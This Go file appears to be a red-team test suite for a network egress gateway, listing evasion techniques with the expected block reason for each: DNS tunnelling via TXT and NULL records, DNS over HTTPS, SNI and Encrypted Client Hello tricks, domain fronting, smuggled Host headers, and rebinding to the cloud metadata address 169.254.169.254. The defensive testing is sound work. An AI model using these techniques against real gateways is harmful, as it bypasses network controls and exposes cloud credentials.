package redteam

import (
	"crypto/tls"

	"github.com/miekg/dns"
)

const hiddenToo = "what is hidden is not readable to the stand-in either"

// hidden sends a hello whose name is hidden behind a public one.
func hidden(public string) func(*arena, string) []Step {
	return hello(forbidden, func(token string) *tls.Config {
		return &tls.Config{ServerName: token + ".test", EncryptedClientHelloConfigList: echConfig(public), MinVersion: tls.VersionTLS13}
	}, nil)
}

// nameTechniques try to get around by names: the name server's, TLS's and HTTP's.
var nameTechniques = []technique{
	{
		name: "dns-unlisted", what: "a name that no rule has, asked of the gateway's resolver", reason: "dns_name",
		steps: question("udp", ourResolver, nil),
	},
	{name: "dns-unlisted-tcp", what: "the same over TCP", reason: "dns_name", steps: question("tcp", ourResolver, nil)},
	{name: "dns-own-resolver", what: "a name server of one's own choice, over UDP", reason: "dns_name", steps: question("udp", worldResolver, nil)},
	{name: "dns-own-resolver-tcp", what: "a name server of one's own choice, over TCP", reason: "dns_name", steps: question("tcp", worldResolver, nil)},
	{
		name: "dns-other-port", what: "a name server on another port", counter: "packet:udp", uncontrolled: neverSpoke,
		steps: question("udp", func(a *arena) string { return at(a, forbidden, 5353) }, nil),
	},
	{
		name: "dns-txt-tunnel", what: "TXT of a name below an allowed suffix", reason: "dns_type", uncontrolled: neverSpoke,
		steps: question("udp", ourResolver, asType(dns.TypeTXT, ".wild.test.")),
	},
	{
		name: "dns-null-tunnel", what: "NULL of a name below an allowed suffix", reason: "dns_type", uncontrolled: neverSpoke,
		steps: question("udp", ourResolver, asType(dns.TypeNULL, ".wild.test.")),
	},
	{
		name: "dns-any", what: "ANY of a name below an allowed suffix", reason: "dns_type", uncontrolled: neverSpoke,
		steps: question("udp", ourResolver, asType(dns.TypeANY, ".wild.test.")),
	},
	{
		name: "dns-mx", what: "MX of a name below an allowed suffix", reason: "dns_type", uncontrolled: neverSpoke,
		steps: question("udp", ourResolver, asType(dns.TypeMX, ".wild.test.")),
	},
	{
		name: "dns-https-ech", what: "HTTPS record, which could carry a key for ECH", reason: "dns_name", uncontrolled: neverSpoke,
		steps: question("udp", ourResolver, asType(dns.TypeHTTPS, ".blocked.test.")),
	},
	{
		name: "dns-chaos", what: "a question of class CHAOS", reason: "dns_type", uncontrolled: neverSpoke,
		steps: question("udp", ourResolver, func(m *dns.Msg, _ string) { m.Question[0].Qclass = dns.ClassCHAOS }),
	},
	{
		name: "dns-update", what: "a dynamic update instead of a question", reason: "dns_not_a_query", uncontrolled: neverSpoke,
		steps: question("udp", ourResolver, func(m *dns.Msg, _ string) { m.Opcode = dns.OpcodeUpdate }),
	},
	{
		name: "dns-two-questions", what: "an allowed question and a second one", reason: "dns_malformed", uncontrolled: noServer,
		steps: question("udp", ourResolver, func(m *dns.Msg, _ string) {
			m.Question = append([]dns.Question{{Name: "allowed.test.", Qtype: dns.TypeA, Qclass: dns.ClassINET}}, m.Question...)
		}),
	},
	{
		name: "dot", what: "DNS over TLS at a server of one's own", reason: "denied_by_default",
		steps: to(resolver, 853, nil, "TOKEN"),
	},
	{
		name: "doh", what: "DNS over HTTPS at an address that no rule has", reason: "denied_by_default",
		steps: secure(forbidden, "blocked.test", "POST /dns-query/TOKEN HTTP/1.1\r\nHost: blocked.test\r\nContent-Length: 0\r\n\r\n"),
	},
	{
		name: "forged-hosts", what: "a forged address for an allowed name: the name is believed, the address is not", reason: "denied_by_default",
		steps: secure(forbidden, "blocked.test", "GET /TOKEN HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
	},

	{
		name: "sni-blocked", what: "TLS to a name that no rule has", reason: "denied_by_default",
		steps: secure(forbidden, "blocked.test", "GET /TOKEN HTTP/1.1\r\nHost: blocked.test\r\n\r\n"),
	},
	{
		name: "sni-blocked-at-allowed-address", what: "TLS to another site on an allowed site's address", reason: "denied_by_default",
		steps: secure(allowed, "front.test", "GET /TOKEN HTTP/1.1\r\nHost: front.test\r\n\r\n"),
	},
	{
		name: "sni-absent", what: "TLS without a name", reason: "no_sni",
		steps: secure(allowed, "", "GET /TOKEN HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
	},
	{
		name: "sni-suffix", what: "a name that only ends like a wildcard's suffix", reason: "denied_by_default",
		steps: secure(forbidden, "evilwild.test", "GET /TOKEN HTTP/1.1\r\nHost: evilwild.test\r\n\r\n"),
	},
	{
		name: "sni-bare-suffix", what: "the wildcard's suffix itself", reason: "denied_by_default",
		steps: secure(forbidden, "wild.test", "GET /TOKEN HTTP/1.1\r\nHost: wild.test\r\n\r\n"),
	},
	{
		name: "sni-prefix", what: "an allowed name with more after it", reason: "denied_by_default",
		steps: secure(forbidden, "allowed.test.blocked.test", "GET /TOKEN HTTP/1.1\r\nHost: allowed.test.blocked.test\r\n\r\n"),
	},
	{
		name: "sni-wild-prefix", what: "a wildcard's name with more after it", reason: "denied_by_default",
		steps: secure(forbidden, "a.wild.test.blocked.test", "GET /TOKEN HTTP/1.1\r\nHost: a.wild.test.blocked.test\r\n\r\n"),
	},
	{
		name: "sni-punycode", what: "an internationalised name that no rule has", reason: "denied_by_default",
		steps: secure(forbidden, "xn--bcher-kva.test", "GET /TOKEN HTTP/1.1\r\nHost: xn--bcher-kva.test\r\n\r\n"),
	},
	{
		name: "sni-case", what: "another case of a name that no rule has", reason: "denied_by_default",
		steps: secure(forbidden, "BLOCKED.test", "GET /TOKEN HTTP/1.1\r\nHost: BLOCKED.test\r\n\r\n"),
	},
	{
		name: "ech", what: "a hidden name (Encrypted Client Hello) behind one whose TLS ends at the gateway, which goes by the name in clear", reason: "tls_handshake",
		steps: hidden("allowed.test"), uncontrolled: hiddenToo,
	},
	{
		name: "ech-passthrough", what: "a hidden name behind one whose TLS is passed through", reason: "ech",
		steps: hidden("pinned.test"), uncontrolled: hiddenToo,
	},
	{
		name: "fronting", what: "Host of another site in a TLS connection to an allowed one", reason: "host_mismatch",
		steps: secure(allowed, "allowed.test", "GET /TOKEN HTTP/1.1\r\nHost: front.test\r\n\r\n"),
	},
	{
		name: "fronting-second", what: "the same in the second request", reason: "host_mismatch",
		steps: secure(allowed, "allowed.test", "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "GET /TOKEN HTTP/1.1\r\nHost: front.test\r\n\r\n"),
	},
	{
		name: "fronting-port", what: "Host with another port", reason: "host_mismatch",
		steps: secure(allowed, "allowed.test", "GET /TOKEN HTTP/1.1\r\nHost: allowed.test:8443\r\n\r\n"),
	},
	{
		name: "h2-coalescing", what: "HTTP/2: another site's :authority on an allowed site's connection", reason: "host_mismatch",
		steps: frames(allowed, "allowed.test", get("front.test", "/TOKEN")),
	},
	{
		name: "h2-coalescing-second", what: "HTTP/2: the same in the second stream", reason: "host_mismatch",
		steps: frames(allowed, "allowed.test", get("allowed.test", "/"), get("front.test", "/TOKEN")),
	},
	{
		name: "h2-host-beside-authority", what: "HTTP/2: a Host that differs from :authority", reason: "host_mismatch",
		steps: frames(allowed, "allowed.test", get("allowed.test", "/TOKEN", "host", "front.test")),
	},
	{
		name: "passthrough-other-name", what: "TLS passed through for one name, asked for another", reason: "denied_by_default",
		steps: secure(allowed, "front.test", "GET /TOKEN HTTP/1.1\r\nHost: pinned.test\r\n\r\n"),
	},

	{
		name: "host-blocked", what: "HTTP: a Host that no rule has", reason: "denied_by_default",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: front.test\r\n\r\n"),
	},
	{
		name: "host-second-request", what: "HTTP: keep-alive, then another Host", reason: "denied_by_default",
		steps: plain(allowed, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "GET /TOKEN HTTP/1.1\r\nHost: front.test\r\n\r\n"),
	},
	{
		name: "host-pipelined", what: "HTTP: both at once", reason: "denied_by_default",
		steps: plain(allowed, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /TOKEN HTTP/1.1\r\nHost: front.test\r\n\r\n"),
	},
	{
		name: "host-twice", what: "HTTP: two Host lines", reason: "duplicate_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: allowed.test\r\nHost: front.test\r\n\r\n"),
	},
	{
		name: "host-none", what: "HTTP/1.1 without Host", reason: "no_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nX: y\r\n\r\n"),
	},
	{
		name: "host-none-1.0", what: "HTTP/1.0 without Host", reason: "no_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.0\r\n\r\n"),
	},
	{
		name: "host-absolute", what: "HTTP: another host in the request line", reason: "host_mismatch",
		steps: plain(allowed, "GET http://front.test/TOKEN HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
	},
	{
		name: "host-absolute-userinfo", what: "HTTP: an allowed name as user of another host", reason: "host_mismatch",
		steps: plain(allowed, "GET http://allowed.test@front.test/TOKEN HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
	},
	{
		name: "host-userinfo", what: "Host with an allowed name as user", reason: "bad_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: allowed.test@front.test\r\n\r\n"),
	},
	{
		name: "host-list", what: "Host with two names", reason: "bad_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: allowed.test,front.test\r\n\r\n"),
	},
	{
		name: "host-space", what: "Host with a blank and another name", reason: "bad_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: allowed.test front.test\r\n\r\n"),
	},
	{
		name: "host-decimal", what: "Host is an address as one decimal number", reason: "bad_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: 2852039166\r\n\r\n"),
	},
	{
		name: "host-octal", what: "Host is an address in octal", reason: "bad_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: 0251.0376.0251.0376\r\n\r\n"),
	},
	{
		name: "host-hex", what: "Host is an address in hexadecimal", reason: "bad_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: 0xa9fea9fe\r\n\r\n"),
	},
	{
		name: "host-literal", what: "Host is an address", reason: "bad_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
	},
	{
		name: "host-mapped", what: "Host is an IPv4 address in IPv6's clothes", reason: "bad_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: [::ffff:169.254.169.254]\r\n\r\n"),
	},
	{
		name: "host-two-dots", what: "an allowed name with two final dots", reason: "bad_host",
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: allowed.test..\r\n\r\n"),
	},

	{
		name: "rebind-to-metadata", what: "an allowed name that resolves to the metadata service", reason: "closed_range", uncontrolled: neverOpen,
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: to-metadata.test\r\n\r\n"),
	},
	{
		name: "rebind-to-host", what: "an allowed name that resolves to the host", reason: "closed_range", uncontrolled: neverOpen,
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: to-host.test\r\n\r\n"),
	},
	{
		name: "rebind-to-loopback", what: "an allowed name that resolves to the gateway's loopback", reason: "closed_range", uncontrolled: neverOpen,
		steps: plain(allowed, "GET /TOKEN HTTP/1.1\r\nHost: to-loopback.test\r\n\r\n"),
	},
}
